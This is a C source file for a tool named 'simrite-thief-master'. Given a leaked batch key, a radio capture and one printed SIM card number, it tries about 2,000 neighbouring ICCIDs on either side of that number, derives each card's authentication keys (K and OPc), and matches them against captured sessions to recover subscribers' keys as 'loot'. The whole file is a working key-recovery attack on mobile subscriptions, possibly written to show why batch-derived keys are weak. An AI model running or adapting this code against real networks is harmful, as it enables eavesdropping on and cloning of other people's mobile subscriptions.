/* thief_master - holds the batch key of a derived batch, and listened to the radio.
 *
 *     simrite-thief-master CAPTURED OUT
 *
 * CAPTURED holds batch-key.hex (64 hex digits; how it was got is another
 * story), radio.pcapng, and printed-iccid.txt: the number printed on one card
 * of the batch, bought in a shop. Card numbers are handed out in a row, so
 * the thief tries those around it; the radio record tells which ICCID belongs
 * to which subscriber, because only the right key fits. */
#include <ctype.h>
#include <errno.h>
#include <stdlib.h>
#include <string.h>

#include "crypto/wipe.h"
#include "keys/derive.h"
#include "theft/loot.h"

enum {
	AROUND = 2000, /* card numbers tried on either side of the printed one */
};

struct master {
	uint8_t batch_key[32];
	char printed[24];
	struct record record;
	bool *opened;
	struct loot loot;
	unsigned tried;
};

static int read_line(char *out, size_t size, const char *folder, const char *name, struct fault *fault)
{
	char path[512];
	FILE *file;

	(void)snprintf(path, sizeof(path), "%s/%s", folder, name);
	if (!(file = fopen(path, "re")) || !fgets(out, (int)size, file)) {
		if (file)
			fclose(file);
		return fault_set(fault, FAULT_INPUT, NULL, "cannot read %s", path);
	}
	fclose(file);
	out[strcspn(out, "\r\n \t")] = 0;
	return 0;
}

static int take_batch_key(struct master *master, const char *captured, struct fault *fault)
{
	char line[80], pair[3] = {0};
	size_t i;

	if (read_line(line, sizeof(line), captured, "batch-key.hex", fault) < 0)
		return -1;
	if (strlen(line) != 64 || strspn(line, "0123456789abcdefABCDEF") != 64)
		return fault_set(fault, FAULT_INPUT, NULL, "batch-key.hex is not 64 hex digits");
	for (i = 0; i < 32; i++) {
		memcpy(pair, line + 2 * i, 2);
		master->batch_key[i] = (uint8_t)strtoul(pair, NULL, 16);
	}
	wipe(line, sizeof(line));
	return 0;
}

/* ITU-T E.118: the last digit makes the Luhn sum a multiple of ten. */
static char luhn(const char *digits, size_t length)
{
	unsigned sum = 0, d;
	size_t i;

	for (i = 0; i < length; i++) {
		d = (unsigned)(digits[length - 1 - i] - '0');
		if (i % 2 == 0)
			d = d * 2 > 9 ? d * 2 - 9 : d * 2;
		sum += d;
	}
	return (char)('0' + (10 - sum % 10) % 10);
}

/* EF.ICCID: digit pairs swapped, F at the end (TS 102 221 13.2). */
static void code_iccid(uint8_t out[static 10], const char *digits)
{
	size_t i, n = strlen(digits);

	for (i = 0; i < 10; i++) {
		unsigned low = 2 * i < n ? (unsigned)(digits[2 * i] - '0') : 0xF;
		unsigned high = 2 * i + 1 < n ? (unsigned)(digits[2 * i + 1] - '0') : 0xF;

		out[i] = (uint8_t)(high << 4 | low);
	}
}

/* The card number `step` places after (before, when negative) the printed one. */
static bool neighbour(char out[static 24], const char *printed, long step)
{
	size_t n = strlen(printed) - 1, tail = n < 12 ? n : 12;
	char number[13] = {0};
	long long value;

	memcpy(number, printed + n - tail, tail);
	value = atoll(number) + step;
	if (value < 0)
		return false;
	(void)snprintf(out, 24, "%.*s%0*lld", (int)(n - tail), printed, (int)tail, value);
	if (strlen(out) != n)
		return false;
	out[n] = luhn(out, n);
	out[n + 1] = 0;
	return true;
}

/* Derive the keys of one card number and see whether any subscriber has them. */
static int try_card(struct master *master, const char *number, struct fault *fault)
{
	const struct span batch = {master->batch_key, sizeof(master->batch_key)};
	struct stolen_key key;
	uint8_t iccid[10];
	size_t i, j;

	code_iccid(iccid, number);
	master->tried++;
	if (derive_key(key.k, DERIVE_LABEL_K, iccid, batch) < 0 ||
	    derive_key(key.opc, DERIVE_LABEL_OPC, iccid, batch) < 0)
		return fault_set(fault, FAULT_BUG, NULL, "the derivation failed");
	for (i = 0; i < master->record.count; i++) {
		const struct session *session = &master->record.sessions[i];

		if (master->opened[i] || !break_in_fits(session, key.k, key.opc))
			continue;
		memcpy(key.imsi, session->imsi, sizeof(key.imsi));
		loot_key(&master->loot, &master->record, &key, number);
		for (j = i; j < master->record.count; j++)
			master->opened[j] |= !strcmp(master->record.sessions[j].imsi, key.imsi);
	}
	return 0;
}

static int steal(struct master *master, const char *captured, const char *out, struct fault *fault)
{
	char path[512], number[24];
	long step;
	int e = 0;

	(void)snprintf(path, sizeof(path), "%s/radio.pcapng", captured);
	if (take_batch_key(master, captured, fault) < 0 ||
	    read_line(master->printed, sizeof(master->printed), captured, "printed-iccid.txt", fault) < 0)
		return -1;
	if (strlen(master->printed) < 18 || strspn(master->printed, "0123456789") != strlen(master->printed))
		return fault_set(fault, FAULT_INPUT, NULL, "printed-iccid.txt is not a card number");
	if (record_read(&master->record, path, fault) < 0)
		return -1;
	master->opened = calloc(master->record.count + 1, sizeof(bool));
	if (!master->opened)
		return fault_set(fault, FAULT_SYSTEM, NULL, "out of memory");
	if (loot_open(&master->loot, out, fault) < 0)
		return -1;
	for (step = 0; e == 0 && step <= AROUND; step++) {
		if (neighbour(number, master->printed, step))
			e = try_card(master, number, fault);
		if (e == 0 && step && neighbour(number, master->printed, -step))
			e = try_card(master, number, fault);
	}
	if (loot_close(&master->loot, fault) < 0)
		e = -1;
	return e;
}

int main(int argc, char **argv)
{
	struct master master = {0};
	struct fault fault;
	int e;

	if (argc != 3) {
		fputs("usage: simrite-thief-master CAPTURED OUT\n", stderr);
		return FAULT_USAGE;
	}
	e = steal(&master, argv[1], argv[2], &fault);
	if (e < 0)
		fprintf(stderr, "simrite-thief-master: %s\n", fault.text);
	else
		printf("{\"type\":\"result\",\"schema\":1,\"thief\":\"master\",\"cards_tried\":%u,\"heard\":%zu,"
		       "\"keys\":%u,\"sessions\":%u}\n",
		       master.tried, master.record.count, master.loot.key_count, master.loot.session_count);
	record_free(&master.record);
	free(master.opened);
	wipe(master.batch_key, sizeof(master.batch_key));
	return e < 0 ? (int)fault.code : 0;
}
